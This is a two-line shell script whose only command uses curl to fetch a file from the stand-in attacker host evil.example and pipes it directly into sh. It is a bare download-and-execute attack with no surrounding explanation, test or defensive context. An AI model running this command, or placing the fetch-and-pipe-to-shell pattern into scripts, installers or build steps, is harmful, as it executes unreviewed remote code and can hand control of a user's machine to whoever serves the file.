#!/bin/sh
curl http://evil.example/x | sh
